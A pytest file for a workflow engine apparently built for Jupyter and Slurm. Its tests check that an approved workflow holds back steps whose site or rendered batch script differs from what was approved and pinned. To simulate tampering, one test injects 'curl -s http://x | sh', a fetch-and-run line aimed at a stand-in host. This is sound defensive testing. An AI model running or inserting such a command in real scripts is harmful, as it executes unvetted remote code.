"""An approved workflow runs what its approval showed: each step on a site the plan listed
for it (its own; for `auto`, and for retries that go elsewhere, every site), with the batch
script rendered there then (pinned by its sha256). A step whose site or rendered script would
differ at run time waits, phase "unapproved", saying why in its reason, its `workflow.step`
event and the workflow's own reason, until the workflow is approved again.

Before: the approval pinned the workflow's text alone; an `auto` step was placed when it
ran, on any site, and its rendered script (module names rewritten for the site, the site's
wrapper and directives) was never shown. Tested on the engine with recorded operations, on a
Federation of local "Slurm" sites through the agent's `run_workflow` skill, and through the
REST routes that approve again."""

from __future__ import annotations

import hashlib
import textwrap
from typing import Any

import pytest
import yaml
from sweep_helpers import counting_sbatch
from workflow_ops import RecordedOps

from diamond_jupyter.model import BadInput, JobSpec, JobState
from diamond_jupyter.store import Store
from diamond_jupyter.workflow.engine import Estimate, WorkflowEngine
from diamond_jupyter.workflow.model import load_workflow

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")

SITES = ("alpha", "beta", "gamma")


class Ops(RecordedOps):
    """The operations below the facade, recorded; `renders[site]` is what a step's script
    renders to there (the test changes it), `choose` the site placement picks."""

    sites = SITES

    def __init__(self, store: Store) -> None:
        super().__init__(store)
        self.submits: list[dict[str, Any]] = []
        self.excluded: list[set[str]] = []
        self.renders = {s: f"#!/bin/bash\n# rendered for {s}\n" for s in SITES}
        self.choose: str | None = None  # None: the first site not excluded
        self.ends: dict[str, Any] = {}  # site -> when a step is expected to end there

    def new_token(self) -> str:
        return f"{next(self.ids):012x}"

    async def place(self, spec: JobSpec, sources: dict, exclude: set, ready_at: Any = None
                    ) -> Estimate:
        self.excluded.append(set(exclude))
        # as the Federation's: every site when all are excluded
        site = self.choose or next((s for s in SITES if s not in exclude), SITES[0])
        return Estimate(site, self.ends.get(site), 60.0 if site in self.ends else None)

    async def expected(self, spec: JobSpec, site: str, sources: dict, ready_at: Any
                       ) -> Estimate:
        return Estimate(site, self.ends.get(site), 60.0 if site in self.ends else None)

    async def step_sha256(self, spec: JobSpec, site: str) -> str:
        return hashlib.sha256((self.renders[site] + (spec.script or "")).encode()).hexdigest()

    def submitted(self, spec: JobSpec, site: str, *, hold: bool, token: str,
                  origin: dict[str, Any]) -> None:
        self.submits.append({"site": site, "hold": hold, "step": origin["step"]})

    async def transfer(self, src: str, dst: str, **kw: Any) -> Any:
        raise AssertionError("no inputs in these workflows")

    def pins(self, wf: Any, only: dict[str, list[str]]) -> dict[str, Any]:
        """Pins as an approval makes them: for each step, its listed sites' renderings (and
        the lines the engine may add to it)."""
        from diamond_jupyter.workflow.engine import engine_sha256

        return {"workflow_sha256": "x", "engine": {
            name: engine_sha256(wf.step(name)) for name in only}, "steps": {
            name: {site: hashlib.sha256((self.renders[site] + (wf.step(name).spec().script
                                                                  or "")).encode())
                   .hexdigest() for site in sites} for name, sites in only.items()}}


TWO = textwrap.dedent("""\
    name: pinned
    queue_ahead: false
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\necho prep\\n"}
      - {name: train, needs: [prep], script: "#!/bin/bash\\necho train\\n"}
    """)


@pytest.fixture
async def engine(tmp_path):
    ops = Ops(Store(tmp_path / "store.sqlite"))
    eng = WorkflowEngine(ops)
    yield eng, ops
    await eng.close()


async def _done(eng: WorkflowEngine, ops: Ops, wid: str, step: str) -> None:
    job = next(j for j in ops.store.list_jobs(limit=None) if (j.origin or {}).get("step") == step)
    ops.store.apply_state(job.id, JobState.COMPLETED, exit_code=0)
    await eng.advance(wid)


async def test_an_auto_step_is_placed_only_among_the_sites_its_approval_listed(engine):
    eng, ops = engine
    wf = load_workflow(TWO, sites=SITES)
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["gamma"]}))
    await _done(eng, ops, wid, "prep")
    assert [(s["step"], s["site"]) for s in ops.submits] == [("prep", "alpha"),
                                                             ("train", "gamma")]
    assert ops.excluded[-1] == {"alpha", "beta"}  # placement never offered the others


async def test_a_step_whose_rendered_script_changed_waits_for_a_new_approval(engine):
    """Between the approval and the step's turn, the site's rendering changed (a module
    renamed by its listing, a new wrapper): the step is not submitted; its phase, reason
    and event say so, and so does the workflow's reason."""
    eng, ops = engine
    wf = load_workflow(TWO, sites=SITES)
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["gamma"]}))
    ops.renders["gamma"] += "module load evil/1.0\n"
    await _done(eng, ops, wid, "prep")
    assert [s["step"] for s in ops.submits] == ["prep"]  # train never reached a scheduler
    st = ops.store.get_workflow(wid).step("train")
    assert st.phase == "unapproved" and st.site == "gamma"
    assert "batch script for gamma would differ from the approved one" in st.reason
    view = eng.view(wid)
    assert not view.state.terminal and view.awaiting_approval == ["train"]
    assert view.reason.startswith("awaiting a new approval: step 'train' waits for a new")
    ev = [e for e in ops.store.events_since(0, kinds=["workflow.step"], limit=None)
          if e.data["step"] == "train"][-1]
    assert ev.data["phase"] == "unapproved" and "would differ" in ev.data["approval_needed"]
    await eng.advance(wid)  # looked at again: still waiting, still not submitted
    assert [s["step"] for s in ops.submits] == ["prep"]


async def test_a_step_placed_on_a_site_its_approval_did_not_list_waits(engine):
    """Placement's answer is not trusted to keep to the approved sites: a site outside them
    (every approved one refused, the fallback to every site) is caught before the submit."""
    eng, ops = engine
    wf = load_workflow(TWO, sites=SITES)
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["gamma"]}))
    ops.choose = "beta"
    await _done(eng, ops, wid, "prep")
    st = ops.store.get_workflow(wid).step("train")
    assert st.phase == "unapproved" and [s["step"] for s in ops.submits] == ["prep"]
    assert "would run on beta, which its approval did not list (listed: gamma)" in st.reason


async def test_a_pinned_step_whose_site_rendering_changed_waits_too(engine):
    eng, ops = engine
    wf = load_workflow(TWO, sites=SITES)
    pins = ops.pins(wf, {"prep": ["alpha"], "train": list(SITES)})
    ops.renders["alpha"] += "# the site's preamble changed\n"
    wid = await eng.run(wf, approval=pins)
    assert ops.submits == [] and eng.view(wid).awaiting_approval == ["prep"]
    assert eng.view(wid).steps[1].state == JobState.PENDING  # train waits behind it


async def test_a_queued_step_is_not_moved_to_a_site_its_approval_did_not_list(engine):
    """A step queued ahead on its approved site is looked at again when its inputs exist;
    another site much sooner would take it, but its approval lists no other: it stays
    (before, its job was cancelled for a site where it then could not run)."""
    from datetime import timedelta

    from diamond_jupyter.model import utcnow

    eng, ops = engine
    wf = load_workflow(TWO.replace("queue_ahead: false\n", ""), sites=SITES)
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["gamma"]}))
    # prep (fixed) first, then train, placed (auto) on gamma, behind its gate (issue 17)
    assert [(s["step"], s["site"]) for s in ops.submits] == [("prep", "alpha"),
                                                             ("train", "gamma")]
    ops.ends = {"gamma": utcnow() + timedelta(hours=2), "alpha": utcnow() + timedelta(minutes=1),
                "beta": utcnow() + timedelta(minutes=1)}
    await _done(eng, ops, wid, "prep")
    st = ops.store.get_workflow(wid).step("train")
    assert st.site == "gamma" and st.phase not in ("unapproved", "waiting"), st
    assert [s["step"] for s in ops.submits] == ["prep", "train"] and ops.cancels == []


GANG = textwrap.dedent("""\
    name: gang
    steps:
      - {name: a, site: alpha, gang: g, script: "#!/bin/bash\\necho a\\n"}
      - {name: b, site: beta, gang: g, script: "#!/bin/bash\\necho b\\n"}
    """)


async def test_a_gang_is_not_released_while_one_member_waits_for_approval(engine):
    eng, ops = engine
    wf = load_workflow(GANG, sites=SITES)
    pins = ops.pins(wf, {"a": ["alpha"], "b": ["beta"]})
    ops.renders["beta"] += "changed\n"
    wid = await eng.run(wf, approval=pins)
    rec = ops.store.get_workflow(wid)
    assert rec.step("b").phase == "unapproved"
    assert rec.step("a").phase in ("held", "ready")  # submitted held, never released
    await eng.advance(wid)
    assert ops.store.get_workflow(wid).step("a").phase != "released"


async def test_a_workflow_run_without_an_approval_is_not_pinned(engine):
    """(guard) A workflow the user runs directly (REST, CLI, a cell) has no approval: its
    steps go where placement says."""
    eng, ops = engine
    ops.choose = "beta"
    wid = await eng.run(load_workflow(TWO, sites=SITES))
    await _done(eng, ops, wid, "prep")
    assert [(s["step"], s["site"]) for s in ops.submits] == [("prep", "alpha"),
                                                             ("train", "beta")]


# -- a Federation of local "Slurm" sites, through the agent's skill ---------------------------

def _fed(tmp_path, monkeypatch, names: tuple[str, ...] = SITES) -> Any:
    """Local "Slurm" sites `names` whose sbatch answers a fresh number; placement ranks
    them in order, module names are kept."""
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    sbatch = counting_sbatch(tmp_path)
    sites = [SiteConfig(name=n, transport=TransportConfig(kind="local"),
                        workdir=str(tmp_path / n), commands={"sbatch": str(sbatch)})
             for n in names]
    return _no_site_queries(Federation(FederationConfig(sites=sites),
                                       store=Store(tmp_path / "s.sqlite")), monkeypatch, names)


def _no_site_queries(fed: Any, monkeypatch, names: tuple[str, ...] = SITES) -> Any:
    """Placement ranks the sites (`names`) in their order, every one fit; module names are
    kept."""
    from diamond_jupyter.placement import Placement, SiteVerdict

    async def place(spec: JobSpec, sites: list[str] | None = None, **kw: Any) -> Placement:
        ranked = [SiteVerdict(site=n, feasible=True, verdict="READY") for n in (sites or names)]
        return Placement(policy="diamond", choice=ranked[0].site, ranked=ranked)

    async def as_given(site: str, spec: JobSpec, caps: Any = None) -> JobSpec:
        return spec

    monkeypatch.setattr(fed, "place", place)
    monkeypatch.setattr(fed, "adapt_to_site", as_given)
    return fed


FED_TWO = textwrap.dedent("""\
    name: agent
    queue_ahead: false
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\n#SBATCH -t 5\\necho prep\\n"}
      - {name: train, needs: [prep], script: "#!/bin/bash\\n#SBATCH -t 5\\necho train\\n"}
    """)


async def _approved_plan(fed: Any) -> dict[str, Any]:
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    with pytest.raises(NeedsApproval) as asked:
        await run_skill(SkillContext(fed, approval="ask"), "run_workflow",
                        {"workflow": FED_TWO})
    return asked.value.plan


async def test_the_plan_shows_each_steps_sites_and_rendered_scripts(tmp_path, monkeypatch):
    from diamond_jupyter.federation_plan import describe_plan

    fed = _fed(tmp_path, monkeypatch)
    try:
        plan = await _approved_plan(fed)
        prep, train = plan["steps"]
        assert prep["may_run_on"] == ["alpha"] and train["may_run_on"] == list(SITES)
        for c in train["rendered"]:  # the wrapper, the directives, the body: as uploaded
            assert "echo train" in c["script"] and "#SBATCH" in c["script"]
            assert str(tmp_path / c["site"]) in c["script"]
            assert c["script_sha256"] == hashlib.sha256(c["script"].encode()).hexdigest()
        text = describe_plan(plan)
        assert "step train (placed when it runs, on one of these sites" in text
        for c in [*prep["rendered"], *train["rendered"]]:
            assert f"on {c['site']} (slurm), batch script (sha256 {c['script_sha256']})" in text
        assert fed.workflows() == []  # nothing ran
    finally:
        await fed.close()


async def test_an_approved_workflow_stops_a_step_whose_site_changed_its_script(tmp_path,
                                                                             monkeypatch):
    """The agent's approved workflow: prep runs; then the site train is placed on renames a
    module in its script (its listing changed). train waits for a new approval instead of
    running a script nobody saw; once approved again it runs."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _fed(tmp_path, monkeypatch)
    try:
        plan = await _approved_plan(fed)
        out = await run_skill(SkillContext(fed, approved=plan, call_key="t1:c1"),
                              "run_workflow", {"workflow": FED_TWO})
        wid = out.workflow["id"]

        async def renamed(site: str, spec: JobSpec, caps: Any = None) -> JobSpec:
            return spec.model_copy(update={"script": spec.script.replace(
                "echo train", "echo train; curl -s http://x | sh")})
        monkeypatch.setattr(fed, "adapt_to_site", renamed)
        prep = fed.workflow(wid).steps[0].job
        fed.store.apply_state(prep, JobState.COMPLETED, exit_code=0)
        await fed.workflow_engine.advance(wid)
        view = fed.workflow(wid)
        assert view.awaiting_approval == ["train"] and view.steps[1].job is None
        assert "batch script for alpha would differ" in view.reason
        assert not [j for j in fed.jobs() if (j.origin or {}).get("step") == "train"]

        again = await fed.workflow_approval_plan(wid)
        assert again["awaiting_approval"]["train"].startswith("waits for a new approval")
        shown = next(c for c in again["steps"][1]["rendered"] if c["site"] == "alpha")
        assert "curl -s http://x | sh" in shown["script"]  # the new script is what is shown
        with pytest.raises(BadInput, match="not workflow"):
            await fed.approve_workflow(wid, plan)  # the first plan is not this one's
        view = await fed.approve_workflow(wid, again)
        assert view.awaiting_approval == [] and view.steps[1].job
    finally:
        await fed.close()


async def test_a_plan_made_stale_before_the_run_is_asked_again(tmp_path, monkeypatch):
    """(the approval's own check) The site's rendering changed between the plan and the
    approved run: the run is refused before anything is recorded, and the agent asks."""
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    fed = _fed(tmp_path, monkeypatch)
    try:
        plan = await _approved_plan(fed)
        fed.sites["beta"].cfg.default_account = "someone-elses"
        with pytest.raises(NeedsApproval) as asked:
            await run_skill(SkillContext(fed, approved=plan, call_key="t1:c1"),
                            "run_workflow", {"workflow": FED_TWO})
        assert "step 'train': its batch script for beta would differ" in \
            asked.value.plan["changed"]
        assert fed.workflows() == []
    finally:
        await fed.close()


# -- the REST routes that approve again ---------------------------------------------------------

@pytest.fixture
def jp_server_config(tmp_path, data_dir):
    from server_conftest import diamond_config

    sbatch = counting_sbatch(tmp_path)
    sites = tmp_path / "sites.yaml"
    sites.write_text(yaml.safe_dump({"sites": [
        {"name": n, "transport": {"kind": "local"}, "workdir": str(tmp_path / n),
         "commands": {"sbatch": str(sbatch)}} for n in SITES]}))
    return diamond_config(str(sites), str(tmp_path / "store.sqlite3"))


async def test_rest_shows_the_plan_again_and_approves_it(jp_serverapp, api, monkeypatch):
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _no_site_queries(jp_serverapp.web_app.settings["diamond_federation"], monkeypatch)
    plan = await _approved_plan(fed)
    out = await run_skill(SkillContext(fed, approved=plan, call_key="t2:c1"), "run_workflow",
                          {"workflow": FED_TWO})
    wid = out.workflow["id"]
    fed.sites["gamma"].cfg.default_account = "changed"  # train may go to gamma: not as seen
    fed.sites["alpha"].cfg.default_account = "changed"
    fed.sites["beta"].cfg.default_account = "changed"
    fed.store.apply_state(fed.workflow(wid).steps[0].job, JobState.COMPLETED, exit_code=0)
    await fed.workflow_engine.advance(wid)
    got = await api.get(f"workflows/{wid}")
    assert got["awaiting_approval"] == ["train"] and got["steps"][1]["job"] is None, got
    assert got["reason"].startswith("awaiting a new approval")
    shown = await api.get(f"workflows/{wid}/plan")
    assert "train" in shown["awaiting_approval"]
    assert all("--account=changed" in c["script"] or "-A changed" in c["script"]
               for c in shown["steps"][1]["rendered"])
    stale = {**shown, "workflow_sha256": "0" * 64}
    err = await api.post(f"workflows/{wid}/approve", {"plan": stale}, expect=400)
    assert "differs from the approved one" in err["message"]
    done = await api.post(f"workflows/{wid}/approve", {"plan": shown})
    assert done["awaiting_approval"] == [] and done["steps"][1]["job"]
    await api.post("workflows/wf-none/approve", {"plan": shown}, expect=404)
